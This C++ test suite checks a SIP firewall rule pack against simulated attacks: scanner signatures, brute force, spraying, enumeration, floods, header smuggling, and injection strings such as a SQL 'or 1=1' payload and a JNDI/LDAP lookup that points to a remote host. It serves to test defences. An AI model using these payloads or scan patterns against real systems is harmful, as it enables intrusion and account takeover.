// The default pack: for every rule an attack that it must catch, a near miss that it must not, and
// an evasion.
#include "tests/engine/fixture.h"

namespace sipward::engine {
namespace {

class PackTest : public EngineTest {
 protected:
  void SetUp() override { LoadPack(); }
  bool Hit(std::string_view rule) const {
    for (uint32_t i = 0; i < verdict_.hit_count; ++i) {
      if (verdict_.hits[i].rule->name == rule) return true;
    }
    return false;
  }
  static std::string Sipvicious(std::string_view method, std::string_view user,
                                std::string_view user_agent) {
    const std::string who =
        "\"" + std::string(user) + "\"<sip:" + std::string(user) + "@198.51.100.1>";
    return std::string(method) +
           " sip:198.51.100.1 SIP/2.0\r\nVia: SIP/2.0/UDP "
           "192.0.2.7:5091;branch=z9hG4bK-366928271;rport\r\n" +
           "Max-Forwards: 70\r\nTo: " + who + "\r\nFrom: " + who +
           ";tag=3766303030303031\r\nUser-Agent: " + std::string(user_agent) +
           "\r\nCall-ID: 2610433386795903\r\nContact: sip:" + std::string(user) +
           "@192.0.2.7:5091\r\nCSeq: 1 " + std::string(method) +
           "\r\nAccept: application/sdp\r\nContent-Length: 0\r\n\r\n";
  }
  // The answer to the host that asked, on its way back.
  void Answered(int code, std::string_view method, std::string_view to_user) {
    std::swap(packet_.source, packet_.destination);
    Inspect(ResponseText(code, method, to_user, "c"));
    std::swap(packet_.source, packet_.destination);
  }
  static std::string Answer(std::string_view user, std::string_view response) {
    return "Authorization: Digest username=\"" + std::string(user) +
           "\", realm=\"example.com\", nonce=\"n1\", uri=\"sip:example.com\", response=\"" +
           std::string(response) + "\"\r\n";
  }
};

TEST_F(PackTest, AnOrdinaryCallIsAllowed) {
  for (const char* method : {"INVITE", "OPTIONS", "REGISTER", "MESSAGE", "SUBSCRIBE"}) {
    EXPECT_EQ(Inspect(RequestText{.method = method}).action, Action::kAllow) << method;
  }
  EXPECT_EQ(Inspect(ResponseText(200, "INVITE", "bob", "c")).action, Action::kAllow);
}

TEST_F(PackTest, ScannerByUserAgent) {
  EXPECT_EQ(Inspect(RequestText{.user_agent = "friendly-scanner"}).action, Action::kDrop);
  EXPECT_TRUE(Hit("scan.user_agent"));
  EXPECT_EQ(Inspect(RequestText{.user_agent = "Friendly Office Phone"}).action, Action::kAllow);
  EXPECT_EQ(Inspect(RequestText{.user_agent = "x FRIENDLY-Scanner/2"}).action, Action::kDrop);
}

TEST_F(PackTest, SipviciousByStructure) {
  EXPECT_EQ(Inspect(Sipvicious("OPTIONS", "100", "Desk Phone 1.0")).action, Action::kDrop);
  EXPECT_TRUE(Hit("scan.sipvicious"));
  // One mark alone: a decimal branch.
  std::string near = RequestText{}.str();
  near.replace(near.find("z9hG4bKa"), 16, "z9hG4bK-77612345");
  EXPECT_EQ(Inspect(near).action, Action::kAllow);
  // Innocent branch and Accept: order alone is no mark to drop for, order and Accept deserve a
  // look.
  std::string evasion = Sipvicious("REGISTER", "200", "Desk Phone 1.0");
  evasion.replace(evasion.find("z9hG4bK-366928271"), 17, "z9hG4bKabcdefghij");
  EXPECT_EQ(Inspect(evasion).action, Action::kFlag);
  EXPECT_TRUE(Hit("scan.sipvicious_like"));
}

TEST_F(PackTest, SipptsByStructure) {
  const std::string branch = "z9hG4bK" + std::string(64, 'q');
  std::string attack = RequestText{.call_id = "0123456789abcdef0123456789abcdef"}.str();
  attack.replace(attack.find("z9hG4bKa"), 16, branch);
  EXPECT_EQ(Inspect(attack).action, Action::kAllow) << "two marks";
  attack.replace(attack.find("1928301774"), 10, "19af01bc");
  EXPECT_EQ(Inspect(attack).action, Action::kDrop) << "three marks";
  EXPECT_TRUE(Hit("scan.sippts"));
}

TEST_F(PackTest, BruteForceByManyResponses) {
  int caught_at = 0;
  for (int i = 1; i <= 20 && !caught_at; ++i) {
    After(kSecond);
    Inspect(RequestText{.method = "REGISTER",
                        .to_user = "alice",
                        .extra = Answer("alice", "r" + std::to_string(i))});
    if (verdict_.action > Action::kFlag) caught_at = i;
  }
  EXPECT_EQ(caught_at, 9);
  EXPECT_TRUE(Hit("auth.bruteforce"));
}

TEST_F(PackTest, APhoneThatRefreshesIsNoBruteForce) {
  for (int i = 0; i < 60; ++i) {
    After(30 * kSecond);
    EXPECT_EQ(Inspect(RequestText{.method = "REGISTER",
                                  .extra = Answer("alice", "r" + std::to_string(i))})
                  .action,
              Action::kAllow);
  }
}

TEST_F(PackTest, BruteForceSeenInTheRefusals) {
  for (int i = 1; i <= 10; ++i) {
    After(10 * kSecond);
    Answered(401, "REGISTER", "alice");
    EXPECT_EQ(Hit("auth.failures"), i == 10) << i;
  }
  Answered(200, "REGISTER", "alice");
  Answered(401, "REGISTER", "alice");
  EXPECT_FALSE(Hit("auth.failures")) << "a success wipes the slate";
}

TEST_F(PackTest, AChallengeIsNoFailure) {
  for (int i = 0; i < 100; ++i) {
    Inspect(RequestText{.method = "REGISTER", .to_user = "u" + std::to_string(i % 10)});
    Answered(401, "REGISTER", "u" + std::to_string(i % 10));
    EXPECT_FALSE(Hit("auth.failures"));
  }
}

TEST_F(PackTest, PasswordSpraying) {
  for (int i = 1; i <= 12; ++i) {
    const std::string user = "user" + std::to_string(i);
    After(20 * kSecond);
    Inspect(RequestText{.method = "REGISTER", .to_user = user, .extra = Answer(user, user)});
    EXPECT_EQ(Hit("auth.spray"), i > 10) << i;
    Answered(403, "REGISTER", user);
  }
}

TEST_F(PackTest, PhonesThatShareAnAccountAreNoBruteForce) {
  for (int i = 0; i < 30; ++i) {
    After(kSecond);
    Inspect(RequestText{.method = "REGISTER", .extra = Answer("bob", "r" + std::to_string(i))});
    EXPECT_EQ(verdict_.action, Action::kAllow) << i;
    Answered(200, "REGISTER", "bob");
  }
}

TEST_F(PackTest, EnumerationByRegister) {
  int throttled = 0;
  for (int i = 1; i <= 200; ++i) {
    After(10 * kMillisecond);
    Inspect(RequestText{
        .method = "REGISTER", .call_id = std::to_string(i), .to_user = std::to_string(100 + i)});
    throttled += verdict_.action == Action::kThrottle;
    if (i < 18 || i > 23) {
      EXPECT_EQ(Hit("enum.register"), i > 20) << i;
    }
  }
  EXPECT_GT(throttled, 150);
}

TEST_F(PackTest, EnumerationWhereTheAnswersAreSeen) {
  for (const char* method : {"REGISTER", "OPTIONS", "INVITE", "SUBSCRIBE"}) {
    LoadPack();
    for (int i = 1; i <= 7; ++i) {
      const std::string user = std::to_string(100 + i);
      After(100 * kMillisecond);
      Inspect(RequestText{.method = method, .call_id = user, .to_user = user});
      EXPECT_EQ(Hit("enum.users"), i > 6) << method << i;
      Answered(404, method, user);
    }
  }
}

TEST_F(PackTest, EnumerationByInvite) {
  for (int i = 1; i <= 8; ++i) {
    const std::string user = std::to_string(100 + i);
    Inspect(RequestText{.call_id = user, .to_user = user});
    EXPECT_EQ(Hit("enum.invite"), i > 6) << i;
    Answered(407, "INVITE", user);
  }
}

TEST_F(PackTest, ATrunkThatIsChallengedIsNoEnumeration) {
  for (int i = 0; i < 60; ++i) {
    const std::string user = std::to_string(100 + i);
    After(100 * kMillisecond);
    Inspect(RequestText{.call_id = user, .to_user = user});
    EXPECT_LE(verdict_.action, Action::kAllow) << i;
    Answered(407, "INVITE", user);
    Inspect(RequestText{.call_id = user, .to_user = user, .extra = Answer("trunk", user)});
    EXPECT_LE(verdict_.action, Action::kAllow) << i;
    Answered(i % 3 ? 200 : 486, "INVITE", user);
    EXPECT_LE(verdict_.action, Action::kAllow) << i;
  }
}

TEST_F(PackTest, WhoLooksAfterItsPhonesIsNoScanner) {
  for (int i = 0; i < 300; ++i) {
    const std::string user = std::to_string(i % 150);
    After(20 * kMillisecond);
    EXPECT_EQ(
        Inspect(RequestText{.method = i % 2 ? "OPTIONS" : "SUBSCRIBE", .to_user = user}).action,
        Action::kAllow);
    Answered(200, i % 2 ? "OPTIONS" : "SUBSCRIBE", user);
    EXPECT_EQ(verdict_.action, Action::kAllow);
  }
}

TEST_F(PackTest, AnOfficeThatRegistersIsNoEnumeration) {
  for (int i = 0; i < 100; ++i) {
    const std::string user = std::to_string(200 + i);
    After(50 * kMillisecond);
    Inspect(RequestText{.method = "REGISTER", .call_id = user, .to_user = user});
    EXPECT_LE(verdict_.action, Action::kFlag) << i;
    After(50 * kMillisecond);
    Inspect(RequestText{
        .method = "REGISTER", .call_id = user, .to_user = user, .extra = Answer(user, "r" + user)});
    EXPECT_LE(verdict_.action, Action::kFlag) << i;
  }
}

// All phones at once, before any has its challenge, and each tries again until it is through.
TEST_F(PackTest, AnOfficeThatRestartsIsThroughSoon) {
  constexpr int kPhones = 40;
  std::vector<bool> registered(kPhones, false);
  int left = kPhones;
  for (int round = 0; round < 20 && left > 0; ++round) {
    std::vector<int> challenged;
    for (int i = 0; i < kPhones; ++i) {
      if (registered[static_cast<size_t>(i)]) continue;
      const std::string user = std::to_string(200 + i);
      Inspect(RequestText{.method = "REGISTER", .call_id = user, .to_user = user});
      if (verdict_.action < Action::kThrottle) challenged.push_back(i);
    }
    for (const int i : challenged) {
      const std::string user = std::to_string(200 + i);
      Inspect(RequestText{.method = "REGISTER",
                          .call_id = user,
                          .to_user = user,
                          .extra = Answer(user, "r" + user)});
      if (verdict_.action >= Action::kThrottle) continue;
      registered[static_cast<size_t>(i)] = true;
      --left;
    }
    After(4 * kSecond);
  }
  EXPECT_EQ(left, 0);
}

TEST_F(PackTest, ScanOfManyHosts) {
  for (int i = 1; i <= 60; ++i) {
    packet_.destination = IpAddress::FromV4(0xC6336400u + static_cast<uint32_t>(i));
    Inspect(RequestText{.method = "OPTIONS"});
    // Beyond 16 different ones the count is an estimate, some percent wide.
    if (i < 28 || i > 34) {
      EXPECT_EQ(Hit("scan.hosts"), i > 30) << i;
    }
  }
}

TEST_F(PackTest, AMonitorWhosePeersAnswerIsNoScan) {
  for (int i = 1; i <= 100; ++i) {
    packet_.destination = IpAddress::FromV4(0xC6336400u + static_cast<uint32_t>(i));
    EXPECT_EQ(Inspect(RequestText{.method = "OPTIONS"}).action, Action::kAllow) << i;
    Answered(200, "OPTIONS", "bob");
  }
}

TEST_F(PackTest, ATrunkWithBadNumbersIsNoEnumeration) {
  for (int i = 1; i <= 40; ++i) {
    Answered(404, "INVITE", "u" + std::to_string(i));
    Answered(200, "INVITE", "v" + std::to_string(i));
    EXPECT_FALSE(Hit("enum.answers")) << "as many good calls as bad";
  }
}

TEST_F(PackTest, AFloodIsThrottled) {
  int throttled = 0;
  for (int i = 0; i < 400; ++i) {
    After(2 * kMillisecond);
    throttled +=
        Inspect(RequestText{.call_id = "f" + std::to_string(i)}).action == Action::kThrottle;
  }
  EXPECT_GT(throttled, 100);
  EXPECT_TRUE(Hit("flood.source"));
}

TEST_F(PackTest, ABusyTrunkIsNoFlood) {
  for (int i = 0; i < 1000; ++i) {
    After(5 * kMillisecond);
    const std::string call = "f" + std::to_string(i);
    EXPECT_EQ(Inspect(RequestText{.call_id = call}).action, Action::kAllow);
    EXPECT_EQ(Inspect(RequestText{.method = "ACK", .to_tag = "t", .call_id = call}).action,
              Action::kAllow);
    EXPECT_EQ(Inspect(RequestText{.method = "BYE", .to_tag = "t", .call_id = call}).action,
              Action::kAllow);
  }
}

TEST_F(PackTest, AFloodWithTagsIsAFloodWhereItsAnswersAreSeen) {
  int throttled = 0;
  for (int i = 0; i < 600; ++i) {
    After(2 * kMillisecond);
    throttled +=
        Inspect(RequestText{.method = "BYE", .to_tag = "t", .call_id = std::to_string(i)}).action ==
        Action::kThrottle;
    Answered(481, "BYE", "bob");
  }
  EXPECT_GT(throttled, 100);
}

TEST_F(PackTest, ManyCallsThatRingAreNoFlood) {
  for (int i = 0; i < 1000; ++i) {
    After(5 * kMillisecond);
    const std::string call = "f" + std::to_string(i);
    EXPECT_EQ(Inspect(RequestText{.call_id = call}).action, Action::kAllow) << i;
    Answered(180, "INVITE", "bob");
  }
}

TEST_F(PackTest, AFloodFromManyAddressesOfOneNetwork) {
  bool seen = false;
  for (int i = 0; i < 1000; ++i) {
    After(kMillisecond);
    From("192.0.2." + std::to_string(i % 250));
    Inspect(RequestText{.call_id = "f" + std::to_string(i)});
    seen |= Hit("flood.network");
    EXPECT_FALSE(Hit("flood.source"));
  }
  EXPECT_TRUE(seen);
}

TEST_F(PackTest, AFloodOfRegistrations) {
  bool seen = false;
  for (int i = 0; i < 400; ++i) {
    After(100 * kMillisecond);
    Inspect(RequestText{.method = "REGISTER", .call_id = "f" + std::to_string(i)});
    seen |= Hit("flood.register");
    EXPECT_FALSE(i < 300 && seen);
  }
  EXPECT_TRUE(seen);
}

TEST_F(PackTest, MalformedAndOversized) {
  EXPECT_EQ(Inspect("INVITE sip:bob@example.com SIP/2.0\r\nCall-ID: 1\r\n\r\n").action,
            Action::kDrop);
  EXPECT_TRUE(Hit("malformed.unreadable"));
  std::string many;
  for (int i = 0; i < 300; ++i) many += "X-Filler: 1\r\n";
  EXPECT_EQ(Inspect(RequestText{.extra = many}).action, Action::kReject);
  EXPECT_EQ(verdict_.sip_code, 513);
}

TEST_F(PackTest, SmugglingIsRejectedAndAmbiguityFlagged) {
  EXPECT_EQ(Inspect(RequestText{.extra = "From: <sip:mallory@example.com>;tag=2\r\n"}).action,
            Action::kReject);
  EXPECT_TRUE(Hit("malformed.smuggling"));
  const std::string text = "\r\n" + RequestText{}.str();
  EXPECT_EQ(Inspect(text).action, Action::kFlag);
  EXPECT_TRUE(Hit("malformed.ambiguous"));
  EXPECT_EQ(Inspect(RequestText{.extra = "Max-Forwards: 999\r\n"}).action, Action::kReject);
}

TEST_F(PackTest, Injection) {
  EXPECT_EQ(Inspect(RequestText{.extra = Answer("alice' or 1=1 --", "r")}).action, Action::kReject);
  EXPECT_TRUE(Hit("injection.text"));
  EXPECT_EQ(Inspect(RequestText{.user_agent = "${jndi:ldap://192.0.2.1/a}"}).action,
            Action::kReject);
  EXPECT_EQ(Inspect(RequestText{.extra = Answer("o'connor", "r")}).action, Action::kAllow);
  EXPECT_EQ(Inspect(RequestText{.user_agent = "Phone; build 12 (shared)"}).action, Action::kAllow);
}

TEST_F(PackTest, MoreThanAnyPeerSends) {
  int throttled = 0;
  for (int i = 0; i < 12000; ++i) {
    After(100 * kMicrosecond);
    throttled += Inspect(RequestText{.method = "ACK", .to_tag = "t"}).action >= Action::kThrottle;
    if (i < 7900) {
      EXPECT_FALSE(Hit("flood.any"));
    }
  }
  EXPECT_TRUE(Hit("flood.any"));
  EXPECT_GT(throttled, 1000);
}

TEST_F(PackTest, WhoSendsNothingButBrokenMessagesIsBanned) {
  packet_.transport = facts::Transport::kTcp;
  for (int i = 1; i <= 31; ++i) {
    EXPECT_FALSE(Hit("malformed.persistent")) << i;
    Inspect("INVITE sip:bob@example.com SIP/2.0\r\nCall-ID: 1\r\n\r\n");
  }
  EXPECT_TRUE(Hit("malformed.persistent"));
  Inspect(RequestText{});
  EXPECT_TRUE(verdict_.banned);
}

TEST_F(PackTest, WhoSendsMoreGoodThanBrokenIsNotBanned) {
  packet_.transport = facts::Transport::kTcp;
  for (int i = 0; i < 60; ++i) {
    Inspect("INVITE sip:bob@example.com SIP/2.0\r\nCall-ID: 1\r\n\r\n");
    EXPECT_FALSE(Hit("malformed.persistent"));
    for (int good = 0; good < 2; ++good) Inspect(RequestText{.method = "MESSAGE"});
    EXPECT_FALSE(verdict_.banned);
  }
}

TEST_F(PackTest, EnumerationSeenInTheAnswersAlone) {
  for (int i = 1; i <= 7; ++i) {
    Answered(404, "INVITE", "u" + std::to_string(i));
    EXPECT_EQ(Hit("enum.answers"), i > 5) << i;
  }
  EXPECT_EQ(verdict_.action, Action::kFlag) << "our own answers are not stopped";
}

TEST_F(PackTest, NamesWithAnApostropheAreNoInjection) {
  for (const char* name :
       {"Hotel Cote d'Or", "L'Union", "Boutique L'OR", "Rock 'n' Roll and more"}) {
    std::string text = RequestText{}.str();
    text.replace(text.find("From: "), 6, "From: \"" + std::string(name) + "\" ");
    EXPECT_EQ(Inspect(text).action, Action::kAllow) << name;
  }
  EXPECT_EQ(Inspect(RequestText{.from_user = "1%27%20or%201=1--"}).action, Action::kReject);
}

TEST_F(PackTest, OddButHonestPhonesAreNotBanned) {
  packet_.transport = facts::Transport::kTls;
  std::string text = RequestText{.method = "MESSAGE"}.str();
  text.replace(text.find("From: "), 6, "Expires: soon\r\nFrom: ");
  for (int i = 0; i < 60; ++i) {
    After(20 * kSecond);
    EXPECT_EQ(Inspect(text).action, Action::kFlag) << i;
  }
}

TEST_F(PackTest, AnswersAreDroppedAndNeverAnswered) {
  std::string text = ResponseText(200, "INVITE", "bob", "c");
  text.replace(text.find("Call-ID: "), 9, "Call-ID: x\r\nCall-ID: ");
  EXPECT_EQ(Inspect(text).action, Action::kDrop);
  EXPECT_EQ(verdict_.sip_code, 0);
}

TEST_F(PackTest, EveryRuleSaysWhatItMeans) {
  for (const rules::RuleInfo& rule : engine_->generation()->rules().rules()) {
    EXPECT_FALSE(rule.why.empty()) << rule.name;
    EXPECT_FALSE(rule.ref.empty()) << rule.name;
    EXPECT_FALSE(rule.severity.empty()) << rule.name;
  }
}

TEST_F(PackTest, AForgerCannotLockOutAnHonestPhone) {
  for (int i = 0; i < 40; ++i) {
    Inspect(RequestText{.method = "REGISTER", .to_user = "x" + std::to_string(i)});
    Inspect(RequestText{.method = "OPTIONS", .user_agent = "friendly-scanner"});
  }
  packet_.transport = facts::Transport::kTls;
  EXPECT_EQ(Inspect(RequestText{.method = "REGISTER"}).action, Action::kAllow);
  EXPECT_EQ(Inspect(RequestText{.method = "REGISTER", .extra = Answer("alice", "r")}).action,
            Action::kAllow);
}

TEST_F(PackTest, Ipv6HostsAreCountedByTheirNetwork) {
  packet_.transport = facts::Transport::kTls;
  for (int i = 0; i < 60; ++i) {
    From("2001:db8:7::" + std::to_string(i + 1));
    Inspect(RequestText{.method = "REGISTER", .to_user = "u" + std::to_string(i)});
  }
  EXPECT_TRUE(Hit("enum.register"));
}

TEST_F(PackTest, LetsTheHostVouchForASource) {
  packet_.registered = true;
  for (int i = 0; i < 400; ++i) {
    After(2 * kMillisecond);
    EXPECT_EQ(Inspect(RequestText{.call_id = "f" + std::to_string(i)}).action, Action::kAllow);
  }
}

}  // namespace
}  // namespace sipward::engine
